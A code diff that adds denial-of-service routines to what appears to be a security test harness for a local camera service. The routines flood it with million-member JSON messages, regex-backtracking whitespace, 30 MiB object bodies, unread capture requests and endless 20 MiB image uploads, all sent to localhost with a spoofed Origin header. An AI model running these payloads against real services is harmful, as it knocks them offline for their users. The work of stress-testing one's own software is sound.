@@ -23,10 +23,12 @@ LIAR = "Lying Camera"
 
 @dataclass(frozen=True)
 class Target:
-    """The service, and a port that its configuration names for a camera of the attacker."""
+    """The service, a port that its configuration names for a camera of the attacker, and two of dialects."""
 
     port: int
     spare: int
+    doccamera: int = 0
+    eloam: int = 0
 
     @property
     def url(self) -> str:
@@ -132,6 +134,55 @@ async def lie_as_camera(target: Target) -> None:
             await page.ask("CloseCamera", devNum=number)
 
 
+async def send_many_parts(target: Target) -> None:
+    """Send messages of a million parts, which take a decoder seconds."""
+    many = b'{"func":"PrivateCopy","imagePath":"a","hide":[' + b'"id",' * 4_500_000 + b'"id"]}'
+    unknown = b'{"func":"MergeFile",' + b",".join(b'"%x":1' % number for number in range(2_000_000)) + b"}"
+    async with _opened(target) as (reader, writer):
+        while not writer.is_closing():
+            for message in (many, unknown):
+                writer.write(raw_client.frame(message))
+                await writer.drain()
+                await reader.read(4096)
+
+
+async def send_blanks_to_dialect(target: Target) -> None:
+    """Send calls of 16 kB of blanks, which a pattern would go back over."""
+    call = raw_client.frame(b"a" + b" " * 16_000 + b";x")
+    async with _opened(Target(target.doccamera, 0)) as (_, writer):
+        while not writer.is_closing():
+            writer.write(call * 64)
+            await writer.drain()
+            await asyncio.sleep(0.3)
+
+
+async def post_objects_to_dialect(target: Target) -> None:
+    """Post 30 MiB of empty objects."""
+    body = b'{"a":[' + b"{}," * (10 * MIB) + b"{}]}"
+    await _post(target, b"pdf=save", body)
+
+
+async def read_no_answer_of_dialect(target: Target) -> None:
+    """Ask for captures as base64, and read no answer."""
+    lines = [await asyncio.open_connection("127.0.0.1", target.eloam, limit=1024) for _ in range(4)]
+    try:
+        for _, writer in lines:
+            for _ in range(8):
+                writer.write(_request(target, b"video=grabimage&filepath=base64", b""))
+                await writer.drain()
+        await asyncio.sleep(60)
+    finally:
+        for _, writer in lines:
+            writer.transport.abort()
+
+
+async def collect_pictures_in_dialect(target: Target) -> None:
+    """Collect pictures for a document that is never made."""
+    picture = base64.b64encode(bytes(20 * MIB))
+    while True:
+        await _post(target, b"pdf=addimage", b'{"ImageBase64":"' + picture + b'"}')
+
+
 def without_desktop() -> str:
     """Return why nobody can be asked here."""
     return "" if shutil.which("zenity") or shutil.which("kdialog") else "no desktop that asks"
@@ -148,6 +199,11 @@ ATTACKS = {
     "camera": Attack("a camera that claims 24000 x 24000", "自称 24000 x 24000 的摄像头", 1, lie_as_camera),
     "handshakes": Attack("handshakes of forged origins", "伪造来源的握手", 12, shake_hands),
     "consent": Attack("questions at the desktop", "桌面询问", 6, use_up_consent, without_desktop),
+    "parts": Attack("messages of a million parts", "含百万个成员的消息", 4, send_many_parts),
+    "dialect-blanks": Attack("16 kB of blanks to a dialect", "发往方言的空格", 4, send_blanks_to_dialect),
+    "dialect-objects": Attack("30 MiB of {} to a dialect", "发往方言的 {}", 4, post_objects_to_dialect),
+    "dialect-unread": Attack("unread answers of a dialect", "不读取方言的应答", 4, read_no_answer_of_dialect),
+    "dialect-pictures": Attack("pictures left in a dialect", "遗留的图片", 4, collect_pictures_in_dialect),
     "audit": Attack("12 pages that fill the audit trail", "12 个填充审计记录的网页", 12, roll_audit_over),
 }
 
@@ -161,6 +217,19 @@ async def _opened(target: Target) -> AsyncIterator[tuple[asyncio.StreamReader, a
         yield reader, writer
     finally:
         writer.transport.abort()
+
+
+def _request(target: Target, command: bytes, body: bytes) -> bytes:
+    head = b"POST /%b HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nOrigin: %b\r\nContent-Length: %d\r\n\r\n"
+    return head % (command, target.eloam, ORIGIN.encode(), len(body)) + body
+
+
+async def _post(target: Target, command: bytes, body: bytes) -> None:
+    reader, writer = await asyncio.open_connection("127.0.0.1", target.eloam)
+    with contextlib.closing(writer):
+        writer.write(_request(target, command, body))
+        await writer.drain()
+        await reader.readuntil(b"\r\n\r\n")
 
 
 async def _recognize(target: Target, file: bytes) -> None:
